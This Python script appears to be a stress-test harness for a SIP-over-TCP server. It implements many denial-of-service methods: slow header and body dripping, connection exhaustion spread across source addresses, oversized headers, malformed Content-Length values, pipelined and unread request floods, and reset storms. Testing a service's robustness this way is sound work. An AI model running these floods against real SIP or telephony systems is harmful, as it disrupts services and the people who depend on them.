#!/usr/bin/python3
"""Misuses SIP streams in one way: abuse.py WAY ADDRESS PORT SECONDS SOURCE...

Says what it did in one line when it ends. Every connection is bound to one of the sources in turn.
"""

import errno
import itertools
import resource
import select
import socket
import struct
import sys
import time

START = b"OPTIONS sip:100@pbx.test SIP/2.0\r\n"
_numbers = itertools.count(1)


def request(source, body=b""):
    n = next(_numbers)
    return START + (f"Via: SIP/2.0/TCP {source}:5060;branch=z9hG4bKa{n}\r\nFrom: <sip:a@pbx.test>;tag=t{n}\r\n"
                    f"To: <sip:100@pbx.test>\r\nCall-ID: abuse{n}@{source}\r\nCSeq: 1 OPTIONS\r\n"
                    f"Max-Forwards: 70\r\nContact: <sip:a@{source}>\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n").encode() + body


class Abuse:
    def __init__(self, target, seconds, sources):
        self.target = target
        self.until = time.monotonic() + seconds
        self.sources = sources
        self.done = 0

    def running(self):
        return time.monotonic() < self.until

    def connect(self, source, receive_buffer=None):
        s = socket.socket()
        if receive_buffer:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        s.setsockopt(socket.IPPROTO_IP, 24, 1)   # IP_BIND_ADDRESS_NO_PORT
        s.bind((source, 0))
        s.settimeout(5)
        s.connect(self.target)
        return s

    def pour(self, s, data):
        """Sends until the peer has taken it all, or hung up, or time is over. True when it took all."""
        s.setblocking(False)
        view = memoryview(data)
        while view and self.running():
            try:
                view = view[s.send(view):]
            except BlockingIOError:
                select.select([], [s], [], 0.2)
            except OSError:
                return False
        return not view

    def hold(self, connections):
        """Keeps them open until time is over."""
        print("holding", flush=True)
        while self.running():
            time.sleep(0.2)
        del connections

    # --- the ways ----------------------------------------------------------------------------------------------

    def idle(self):
        """Fifty connections for each source that never say anything."""
        held = []
        for number in range(50 * len(self.sources)):
            s = socket.socket()
            s.setblocking(False)
            s.setsockopt(socket.IPPROTO_IP, 24, 1)
            s.bind((self.sources[number % len(self.sources)], 0))
            error = s.connect_ex(self.target)
            if error not in (0, errno.EINPROGRESS):
                raise OSError(error, "connect")
            held.append(s)
            self.done += 1
            if number % 100 == 99:
                time.sleep(0.08)   # so that the listen queue is not what turns them away
        self.hold(held)

    def crowd(self):
        """A hundred connections of each source, more than one may have."""
        held = []
        for source in self.sources * 100:
            try:
                held.append(self.connect(source))
                self.done += 1
            except OSError:
                pass
        self.hold(held)

    def drip(self, beginning):
        held = []
        for source in self.sources * 5:
            s = self.connect(source)
            s.sendall(beginning)
            held.append(s)
        while self.running() and held:
            for s in list(held):
                try:
                    s.sendall(b"x")
                    self.done += 1
                except OSError:
                    held.remove(s)
            time.sleep(1)

    def drip_head(self):
        self.drip(START + b"X: ")

    def drip_body(self):
        self.drip(START + b"Content-Length: 60000\r\n\r\n")

    def each(self, data, connections=5):
        """Sends it on some connections of each source and waits for the end of each."""
        for source in self.sources * connections:
            s = self.connect(source)
            self.pour(s, data)
            s.setblocking(True)
            s.settimeout(3)
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
            s.close()
            self.done += 1

    def endless_header(self):
        self.each(START + b"X: " + b"a" * 2_000_000, 1)

    def endless_start_line(self):
        self.each(b"OPTIONS sip:" + b"a" * 2_000_000, 1)

    def length_negative(self):
        self.each(START + b"Content-Length: -1\r\n\r\n", 1)

    def length_twice(self):
        self.each(START + b"Content-Length: 3\r\nl: 4\r\n\r\nabcd", 1)

    def length_huge(self):
        self.each(START + b"Content-Length: 4000000\r\n\r\n", 1)

    def keep_alives(self):
        self.each(b"\r\n\r\n" * 200_000)

    def resets(self):
        for source in self.sources * 20:
            s = self.connect(source)
            s.sendall(START + b"X: ")
            time.sleep(0.01)   # a reset overtakes what was not read yet
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()
            self.done += 1

    def pipeline(self):
        """Thousands of requests on each connection; answers are read."""
        connections = {self.connect(source): b"".join(request(source) for _ in range(5000)) for source in self.sources}
        for s in connections:
            s.setblocking(False)
        while self.running() and connections:
            readable, writable, _ = select.select(list(connections), [s for s in connections if connections[s]], [], 1)
            for s in writable:
                try:
                    connections[s] = connections[s][s.send(connections[s][:65536]):]
                except OSError:
                    connections.pop(s, None)
            for s in readable:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                self.done += data.count(b"SIP/2.0 ")
                if not data:
                    connections.pop(s, None)

    def deaf(self):
        """Requests without end, and no answer is ever read."""
        held = []
        for source in self.sources:
            s = self.connect(source, 4096)
            held.append(s)
            s.setblocking(False)
        block = {s: b"".join(request(self.sources[0]) for _ in range(500)) for s in held}
        while self.running() and held:
            _, writable, _ = select.select([], held, [], 1)
            for s in writable:
                try:
                    self.done += s.send(block[s])
                except OSError:
                    held.remove(s)

    def bulky(self):
        """Big requests for an upstream that takes nothing."""
        held = []
        for source in self.sources:
            s = self.connect(source)
            s.setblocking(False)
            held.append(s)
        data = {s: b"".join(request(self.sources[0], b"x" * 60_000) for _ in range(20)) for s in held}
        while self.running() and held:
            readable, writable, _ = select.select(held, [s for s in held if data[s]], [], 1)
            for s in writable:
                try:
                    sent = s.send(data[s][:65536])
                    data[s] = data[s][sent:]
                    self.done += sent
                except OSError:
                    held.remove(s)
            for s in readable:
                try:
                    gone = not s.recv(65536)
                except OSError:
                    gone = True
                if gone and s in held:
                    held.remove(s)


def main():
    way, address, port, seconds, *sources = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    abuse = Abuse((address, int(port)), float(seconds), sources)
    print("begins", flush=True)
    getattr(abuse, way)()
    print(f"{way}: {abuse.done}", flush=True)


if __name__ == "__main__":
    main()
